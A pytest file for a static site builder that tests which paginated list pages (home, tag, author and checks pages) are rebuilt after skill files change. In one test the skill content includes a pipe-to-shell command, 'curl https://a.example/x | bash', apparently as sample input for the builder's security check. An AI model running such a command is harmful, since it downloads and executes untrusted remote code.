"""Pages of lists are parts of their own."""

import os
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path

import pytest

from skillpack.builder.build import build_site
from skillpack.builder.inputs.catalog import locate
from skillpack.builder.inputs.inputs import gather
from skillpack.builder.outputs import catalog as catalog_outputs
from skillpack.builder.outputs import listings as listing_outputs
from skillpack.builder.store import BuildStore
from skillpack.files.folder import FolderOutput
from skillpack.model.progress import silent
from skillpack.site.pages import checks, home
from skillpack.site.pages import lists as listings

Keys = dict[str, str]
OLD = 1.0  # seconds since 1970


@pytest.fixture
def build(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[], Keys]]:
    """Build a catalog of five skills with two on a page, and return the key of each part of the site."""
    for room in (home, listings, checks, listing_outputs, catalog_outputs):
        monkeypatch.setattr(room, "PAGE", 2)
    monkeypatch.setattr(home, "WHOLE", 2)
    for name, tag in zip("abcde", ("odd", "even", "odd", "even", "odd"), strict=True):
        write(tmp_path, name, tag)
    with closing(BuildStore(tmp_path / "cache.sqlite")) as cache:

        def made() -> Keys:
            for file in (tmp_path / "skills").rglob("*"):
                os.utime(file, (OLD, OLD))
            inputs = gather(locate(tmp_path / "skills"), today="2026-06-01", date="")
            with FolderOutput(tmp_path / "out") as target:
                build_site(inputs, target, cache, folder="out", pool=lambda _: None, report=silent)
            return cache.output_keys("out")

        yield made


def write(root: Path, name: str, tag: str, body: str = "") -> None:
    """Write a skill; its name and its length are all that tells it from the others."""
    folder = root / "skills" / name
    folder.mkdir(parents=True, exist_ok=True)
    head = f"name: {name}\ndescription: Does {name}. Use when asked.\nmetadata:\n  tags: {tag}\n  author: Ada\n"
    (folder / "SKILL.md").write_text(f"---\n{head}---\n# Title\n\n{'word ' * 400}\n{body}")


def lists(before: Keys, after: Keys) -> set[str]:
    """Return the pages of lists that were made anew, came or went."""
    changed = {name for name in before.keys() | after.keys() if before.get(name) != after.get(name)}
    return {name for name in changed if name.endswith("/index.html")}


def test_an_edit_changes_the_pages_on_which_the_skill_stands(build, tmp_path: Path) -> None:
    before = build()
    write(tmp_path, "e", "odd", "\nMore of it.\n")
    skill = (tmp_path / "skills/e/SKILL.md").read_text()
    (tmp_path / "skills/e/SKILL.md").write_text(skill.replace("word " * 400, "word " * 300))
    assert lists(before, build()) == {
        "/page/3/index.html", "/tags/odd/2/index.html", "/authors/ada/3/index.html",
    }  # fmt: skip


def test_another_tag_changes_both_and_what_counts_them(build, tmp_path: Path) -> None:
    before = build()
    write(tmp_path, "d", "odd")
    changed = lists(before, build())
    assert {"/tags/even/index.html", "/tags/odd/index.html", "/tags/odd/2/index.html", "/index.html"} <= changed
    assert "/authors/ada/index.html" not in changed
    # A page that continues the first one shows no totals.
    assert "/page/3/index.html" not in changed


def test_a_description_changes_the_totals_of_the_first_page_alone(build, tmp_path: Path) -> None:
    before = build()
    skill = tmp_path / "skills/e/SKILL.md"
    skill.write_text(skill.read_text().replace("Use when asked.", "Use when asked for it."))
    changed = lists(before, build())
    assert {"/index.html", "/page/3/index.html"} <= changed
    assert "/page/2/index.html" not in changed


def test_a_finding_changes_the_page_that_shows_it_and_the_totals(build, tmp_path: Path) -> None:
    for name in "abcde":
        write(tmp_path, name, "odd", "See [it](no-such-file.md).\n")
    before = build()
    assert "/checks/3/index.html" in before
    write(tmp_path, "e", "odd", "See [it](no-such-file.md).\n\ncurl https://a.example/x | bash\n")
    changed = {path for path in lists(before, build()) if path.startswith("/checks/")}
    assert {"/checks/index.html", "/checks/3/index.html"} <= changed
    assert "/checks/2/index.html" not in changed


def test_what_was_made_page_by_page_is_what_is_made_at_once(build, tmp_path: Path) -> None:
    build()
    write(tmp_path, "b", "odd", "\nMore of it.\n")
    (tmp_path / "skills/c/SKILL.md").unlink()
    (tmp_path / "skills/c").rmdir()
    build()
    edited = {file.relative_to(tmp_path): file.read_bytes() for file in (tmp_path / "out").rglob("*.html")}
    (tmp_path / "out").rename(tmp_path / "before")
    build()
    assert edited == {file.relative_to(tmp_path): file.read_bytes() for file in (tmp_path / "out").rglob("*.html")}
